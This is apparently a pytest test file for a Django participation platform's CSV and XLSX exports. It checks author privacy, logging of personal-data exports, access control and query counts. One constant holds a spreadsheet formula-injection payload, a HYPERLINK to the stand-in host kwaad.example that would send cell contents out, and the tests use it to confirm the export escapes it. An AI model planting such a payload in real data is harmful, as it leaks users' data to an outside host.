"""The streamed exports of a round's input and participants and an opgave's actions
(issue 9 point 7). (Helper "exports".)

Content as a user would open it (CSV with ``;`` and XLSX), privacy of authors,
formula injection, the log of personal-data exports, 404/403/405 and a constant
number of queries for 1 and for 20 rows.
"""

from __future__ import annotations

import csv
import io
from datetime import date

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from opgaven.models import Actie, Besluit, Gebied, PlanVanAanpak
from participatie.models import Inbreng, Ronde
from participatie.services import (
    deelnemen,
    inbreng_indienen,
    ronde_status_wijzigen,
    steun_wisselen,
    terugkoppelen,
)
from rapportage.models import Exportregistratie
from rapportage.selectors_exports import inbreng_export
from tests.factories import UserFactory

AANVAL = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")'
GEVAARLIJK = ("=", "+", "-", "@", "\t", "\r")

INBRENG_KOPPEN = [
    "Nr.",
    "Ingediend op",
    "Titel",
    "Tekst",
    "Soort",
    "Status",
    "Steunbetuigingen",
    "Reacties",
    "Gebied",
    "Auteur",
    "Verborgen",
    "Terugkoppeling",
    "Motivering",
    "Besluit",
    "Actie",
    "Teruggekoppeld op",
]


def url(naam: str, slug: str, formaat: str) -> str:
    return reverse(f"rapportage:{naam}", kwargs={"slug": slug, "formaat": formaat})


def csv_rijen(response) -> list[list[str]]:
    assert response.streaming, "a CSV export is streamed"
    inhoud = b"".join(response.streaming_content).decode("utf-8")
    assert inhoud.startswith("\ufeff")
    return list(csv.reader(io.StringIO(inhoud[1:]), delimiter=";"))


def xlsx_rijen(response) -> list[list]:
    inhoud = b"".join(response.streaming_content)
    blad = load_workbook(io.BytesIO(inhoud)).active
    return [[c.value for c in rij] for rij in blad.iter_rows()]


@pytest.fixture
def noord(db) -> Gebied:
    return Gebied.objects.create(naam="Noorderpolder", code="WK199901", niveau=Gebied.Niveau.WIJK)


@pytest.fixture
def anoniem_inwoner(ronde, noord):
    """A resident without a display name who said they live in Noorderpolder."""
    user = UserFactory(weergavenaam="", email="geheim.adres@example.org")
    deelnemen(ronde=ronde, user=user, wijk=noord, leeftijdsgroep="41-65")
    return user


@pytest.fixture
def volle_ronde(ronde, inbreng, anoniem_inwoner, regisseur, inwoner, opgave):
    """``ronde`` with: the fixture's idea (supported by two, with feedback linked to a
    decision), a concern by a resident without a display name, and a question whose
    title tries formula injection."""
    steun_wisselen(inbreng=inbreng, user=anoniem_inwoner)
    steun_wisselen(inbreng=inbreng, user=regisseur)
    besluit = Besluit.objects.create(
        opgave=opgave,
        titel="Koffieochtenden vanaf maart",
        datum=date(2026, 12, 1),
        orgaan=Besluit.Orgaan.COLLEGE,
        motivering="Past in het plan.",
    )
    terugkoppelen(
        inbreng=inbreng,
        door=regisseur,
        status="overgenomen",
        motivering="We starten in maart in de bibliotheek.",
        besluit=besluit,
    )
    inbreng_indienen(
        ronde=ronde,
        auteur=anoniem_inwoner,
        soort="zorg",
        titel="Te weinig bankjes",
        tekst="Ouderen kunnen nergens even zitten.",
    )
    inbreng_indienen(ronde=ronde, auteur=inwoner, soort="vraag", titel=AANVAL, tekst="+31 6 123")
    return ronde


# --- Input of a round ---------------------------------------------------------------------


@pytest.mark.django_db
def test_input_csv_holds_every_input_with_public_names_and_feedback(
    client, volle_ronde, regisseur, anoniem_inwoner
):
    client.force_login(regisseur)
    response = client.get(url("export_inbreng", volle_ronde.slug, "csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    vandaag = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="inbreng-{volle_ronde.slug}-{vandaag}.csv"'
    )
    assert response["Cache-Control"] == "private, no-store"
    rijen = csv_rijen(response)
    assert rijen[0] == INBRENG_KOPPEN
    assert len(rijen) == 4
    idee, zorg, vraag = rijen[1:]
    assert idee[2] == "Een koffieochtend in de bibliotheek"
    assert idee[4] == "Idee"
    assert idee[6] == "2"  # supports
    assert idee[9] == "Ilse Inwoner"
    assert idee[10] == "nee"
    assert idee[11] == "Overgenomen"
    assert idee[12] == "We starten in maart in de bibliotheek."
    assert idee[13] == "Koffieochtenden vanaf maart"
    assert idee[15]  # feedback date
    # No display name: "Inwoner uit <wijk>", never the e-mail address.
    assert zorg[9] == "Inwoner uit Noorderpolder"
    assert zorg[11] == ""  # no feedback yet
    inhoud = "\n".join(";".join(r) for r in rijen)
    assert anoniem_inwoner.email not in inhoud
    assert "geheim.adres" not in inhoud
    # Formula injection: the title stays text.
    assert vraag[2] == "'" + AANVAL
    assert vraag[3] == "'+31 6 123"
    for rij in rijen:
        for waarde in rij:
            assert not waarde.startswith(GEVAARLIJK), (rij, waarde)


@pytest.mark.django_db
def test_input_xlsx_has_the_same_rows_typed_and_escaped(client, volle_ronde, regisseur):
    client.force_login(regisseur)
    response = client.get(url("export_inbreng", volle_ronde.slug, "xlsx"))

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="inbreng-{volle_ronde.slug}-'
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    inhoud = b"".join(response.streaming_content)
    blad = load_workbook(io.BytesIO(inhoud)).active
    rijen = [[c.value for c in rij] for rij in blad.iter_rows()]
    assert rijen[0] == INBRENG_KOPPEN
    assert [r[2] for r in rijen[1:]] == [
        "Een koffieochtend in de bibliotheek",
        "Te weinig bankjes",
        "'" + AANVAL,
    ]
    assert rijen[1][6] == 2  # a number, summable
    assert rijen[1][10] is False
    assert rijen[2][9] == "Inwoner uit Noorderpolder"
    for rij in blad.iter_rows():
        for c in rij:
            assert c.data_type != "f", c.coordinate
            if isinstance(c.value, str):
                assert not c.value.startswith(GEVAARLIJK), (c.coordinate, c.value)


@pytest.mark.django_db
def test_hidden_input_is_marked(client, volle_ronde, regisseur):
    Inbreng.objects.filter(titel="Te weinig bankjes").update(
        verborgen_op=timezone.now(), verborgen_reden="Dubbel"
    )
    client.force_login(regisseur)
    rijen = csv_rijen(client.get(url("export_inbreng", volle_ronde.slug, "csv")))
    assert [r[10] for r in rijen[1:]] == ["nee", "ja", "nee"]


@pytest.mark.django_db
def test_headers_are_dutch_whatever_the_readers_language(volle_ronde, settings):
    from django.utils import translation

    with translation.override("en"):
        export = inbreng_export(volle_ronde)
        rij = next(export.rijen)
    assert export.koppen == INBRENG_KOPPEN
    assert rij[4] == "Idee"


# --- Participants of a round ---------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_participants_export_holds_personal_data_and_is_logged(
    client, volle_ronde, regisseur, anoniem_inwoner, formaat
):
    client.force_login(regisseur)
    assert not Exportregistratie.objects.exists()

    response = client.get(url("export_deelnemers", volle_ronde.slug, formaat))

    assert response.status_code == 200
    rijen = csv_rijen(response) if formaat == "csv" else xlsx_rijen(response)
    assert rijen[0] == [
        "Weergavenaam",
        "E-mailadres",
        "Wijk",
        "Leeftijdsgroep",
        "Toestemming gegeven op",
    ]
    assert len(rijen) == 3  # inwoner (fixture) and anoniem_inwoner
    rij = next(r for r in rijen if r[1] == anoniem_inwoner.email)
    assert rij[2] == "Noorderpolder"
    assert rij[3] == "41 tot en met 65"
    assert rij[4]
    registratie = Exportregistratie.objects.get()
    assert registratie.door == regisseur
    assert registratie.ronde == volle_ronde
    assert registratie.wat == "deelnemers"
    assert registratie.formaat == formaat


@pytest.mark.django_db
@pytest.mark.parametrize("persona", ["ambtenaar", "partner_lid", "inwoner", "adviseur"])
def test_participants_export_refused_to_non_owners_and_not_logged(
    client, volle_ronde, persona, request
):
    client.force_login(request.getfixturevalue(persona))
    response = client.get(url("export_deelnemers", volle_ronde.slug, "csv"))
    assert response.status_code == 403
    assert not Exportregistratie.objects.exists()


@pytest.mark.django_db
def test_each_download_is_logged(client, volle_ronde, regisseur):
    client.force_login(regisseur)
    for formaat in ("csv", "xlsx", "csv"):
        assert client.get(url("export_deelnemers", volle_ronde.slug, formaat)).status_code == 200
    assert list(Exportregistratie.objects.order_by("pk").values_list("formaat", flat=True)) == [
        "csv",
        "xlsx",
        "csv",
    ]


# --- Who gets what ------------------------------------------------------------------------------


@pytest.fixture
def concept_ronde_elders(andere_opgave, ambtenaar):
    """A draft round of ``andere_opgave``: invisible to ``regisseur`` (IDOR)."""
    from tests.conftest import _ronde

    return _ronde(andere_opgave, ambtenaar, titel="Concept elders")


@pytest.mark.django_db
@pytest.mark.parametrize("naam", ["export_inbreng", "export_deelnemers"])
def test_round_of_another_opgave(client, naam, concept_ronde_elders, andere_ronde, regisseur):
    client.force_login(regisseur)
    # A draft the user may not see: 404; a public round they do not manage: 403.
    assert client.get(url(naam, concept_ronde_elders.slug, "csv")).status_code == 404
    assert client.get(url(naam, andere_ronde.slug, "csv")).status_code == 403
    assert client.get(url(naam, "bestaat-niet", "csv")).status_code == 404
    assert not Exportregistratie.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("naam", ["export_inbreng", "export_deelnemers"])
def test_unknown_format_wrong_method_and_anonymous(client, naam, ronde, regisseur):
    assert client.get(url(naam, ronde.slug, "csv")).status_code == 302  # to log in
    client.force_login(regisseur)
    assert client.get(url(naam, ronde.slug, "pdf")).status_code == 404
    assert client.get(url(naam, ronde.slug, "CSV")).status_code == 404
    assert client.post(url(naam, ronde.slug, "csv")).status_code == 405


# --- Actions of an opgave ----------------------------------------------------------------------


@pytest.fixture
def acties(actie, opgave, organisatie, gemeente):
    """The plan of ``opgave`` v1 with ``actie`` and a second action (two uitvoerders, one
    with a dangerous title); and an older plan's action that must not show."""
    tweede = Actie.objects.create(
        opgave=opgave,
        plan=actie.plan,
        titel="@Buurtkamer inrichten",
        trekker=gemeente,
        status=Actie.Status.BEZIG,
        start=date(2027, 1, 1),
        eind=date(2027, 6, 30),
    )
    tweede.uitvoerders.set([organisatie, gemeente])
    return [actie, tweede]


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_actions_export(client, acties, opgave, partner_lid, formaat):
    # A partner of an involved organisation sees the workspace, and so the actions.
    client.force_login(partner_lid)
    response = client.get(url("export_acties", opgave.slug, formaat))

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="acties-{opgave.slug}-'
    )
    rijen = csv_rijen(response) if formaat == "csv" else xlsx_rijen(response)
    assert rijen[0] == [
        "Nr.",
        "Titel",
        "Omschrijving",
        "Status",
        "Trekker",
        "Uitgevoerd door",
        "Doel",
        "Start",
        "Einde",
        "Versie",
    ]
    assert len(rijen) == 3
    tweede = next(r for r in rijen if str(r[1]).endswith("Buurtkamer inrichten"))
    assert tweede[1] == "'@Buurtkamer inrichten"
    assert tweede[3] == "Bezig"
    assert tweede[4] == "Gemeente Demodam"
    assert tweede[5] == "Gemeente Demodam, Woonstichting Demodam"


@pytest.mark.django_db
def test_actions_export_takes_the_current_plan(client, acties, opgave, regisseur, organisatie):
    nieuw = PlanVanAanpak.objects.create(opgave=opgave, versie=2, samenvatting="Versie 2.")
    Actie.objects.create(opgave=opgave, plan=nieuw, titel="Alleen in v2", trekker=organisatie)
    client.force_login(regisseur)
    rijen = csv_rijen(client.get(url("export_acties", opgave.slug, "csv")))
    assert [r[1] for r in rijen[1:]] == ["Alleen in v2"]
    assert rijen[1][9] == "2"


@pytest.mark.django_db
def test_actions_export_without_a_plan_is_only_headers(client, opgave, regisseur):
    client.force_login(regisseur)
    rijen = csv_rijen(client.get(url("export_acties", opgave.slug, "csv")))
    assert len(rijen) == 1


@pytest.mark.django_db
def test_actions_export_who(client, acties, opgave, interne_opgave, inwoner, partner_lid):
    client.force_login(inwoner)
    # A public opgave: visible, but not its workspace (403); an internal one: 404.
    assert client.get(url("export_acties", opgave.slug, "csv")).status_code == 403
    assert client.get(url("export_acties", interne_opgave.slug, "csv")).status_code == 404
    client.force_login(partner_lid)
    assert client.get(url("export_acties", opgave.slug, "ods")).status_code == 404


# --- Queries: constant in the number of rows --------------------------------------------------


def _queries(client, pad: str) -> int:
    # Warm up first: the first request after logging in also loads the person's roles
    # and permissions into the cache (accounts.rechten).
    b"".join(client.get(pad).streaming_content)
    with CaptureQueriesContext(connection) as vastgelegd:
        response = client.get(pad)
        assert response.status_code == 200
        b"".join(response.streaming_content)  # the rows are read while streaming
    return len(vastgelegd)


def _maak_inbreng(ronde, aantal: int, noord, regisseur) -> None:
    """``aantal`` inputs by as many residents, every third supported and with feedback."""
    for index in range(aantal):
        auteur = UserFactory(weergavenaam="" if index % 2 else f"Bewoner {index}")
        deelnemen(ronde=ronde, user=auteur, wijk=noord)
        inbreng = inbreng_indienen(
            ronde=ronde, auteur=auteur, soort="idee", titel=f"Idee {index}", tekst="Tekst."
        )
        if index % 3 == 0:
            steun_wisselen(inbreng=inbreng, user=regisseur)
            terugkoppelen(inbreng=inbreng, door=regisseur, status="overgenomen", motivering="Ja.")


def _tweede_ronde(opgave, regisseur):
    from tests.conftest import _ronde

    ronde = _ronde(opgave, regisseur, titel="Tweede ronde")
    return ronde_status_wijzigen(ronde=ronde, naar=Ronde.Status.OPEN, door=regisseur)


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
@pytest.mark.parametrize("naam", ["export_inbreng", "export_deelnemers"])
def test_round_exports_take_the_same_queries_for_1_and_20_rows(
    client, opgave, regisseur, noord, naam, formaat
):
    een = _tweede_ronde(opgave, regisseur)
    _maak_inbreng(een, 1, noord, regisseur)
    from tests.conftest import _ronde

    twintig = ronde_status_wijzigen(
        ronde=_ronde(opgave, regisseur, titel="Derde ronde"),
        naar=Ronde.Status.OPEN,
        door=regisseur,
    )
    _maak_inbreng(twintig, 20, noord, regisseur)
    client.force_login(regisseur)
    assert _queries(client, url(naam, een.slug, formaat)) == _queries(
        client, url(naam, twintig.slug, formaat)
    )


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_actions_export_takes_the_same_queries_for_1_and_20_rows(
    client, opgave, andere_opgave, regisseur, ambtenaar, organisatie, formaat
):
    for doel_opgave, aantal in ((opgave, 1), (andere_opgave, 20)):
        plan = PlanVanAanpak.objects.create(opgave=doel_opgave, versie=1, samenvatting="Plan.")
        for index in range(aantal):
            actie = Actie.objects.create(
                opgave=doel_opgave, plan=plan, titel=f"Actie {index}", trekker=organisatie
            )
            actie.uitvoerders.set([organisatie])
    client.force_login(regisseur)  # an official: sees every workspace
    assert _queries(client, url("export_acties", opgave.slug, formaat)) == _queries(
        client, url("export_acties", andere_opgave.slug, formaat)
    )


# --- The links ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_round_pages_link_the_exports_for_its_owners_only(client, ronde, regisseur, ambtenaar):
    links = [
        url("export_inbreng", ronde.slug, "csv"),
        url("export_inbreng", ronde.slug, "xlsx"),
        url("export_deelnemers", ronde.slug, "csv"),
        url("export_deelnemers", ronde.slug, "xlsx"),
    ]
    client.force_login(regisseur)
    for pagina in (
        reverse("participatie:terugkoppeling", kwargs={"slug": ronde.slug}),
        ronde.get_absolute_url(),
    ):
        inhoud = client.get(pagina).content.decode()
        assert all(link in inhoud for link in links), pagina
    client.force_login(ambtenaar)  # an official without a role on the opgave
    inhoud = client.get(ronde.get_absolute_url()).content.decode()
    assert not any(link in inhoud for link in links)


@pytest.mark.django_db
def test_the_plan_page_links_the_actions_export(client, acties, opgave, partner_lid, inwoner):
    link = url("export_acties", opgave.slug, "xlsx")
    plan = reverse("opgaven:plan", kwargs={"slug": opgave.slug})
    client.force_login(partner_lid)
    assert link in client.get(plan).content.decode()
    # An older version of the plan: the export holds the current one, so no link there.
    PlanVanAanpak.objects.create(opgave=opgave, versie=2, samenvatting="Versie 2.")
    oud = reverse("opgaven:plan_versie", kwargs={"slug": opgave.slug, "versie": 1})
    assert link not in client.get(oud).content.decode()
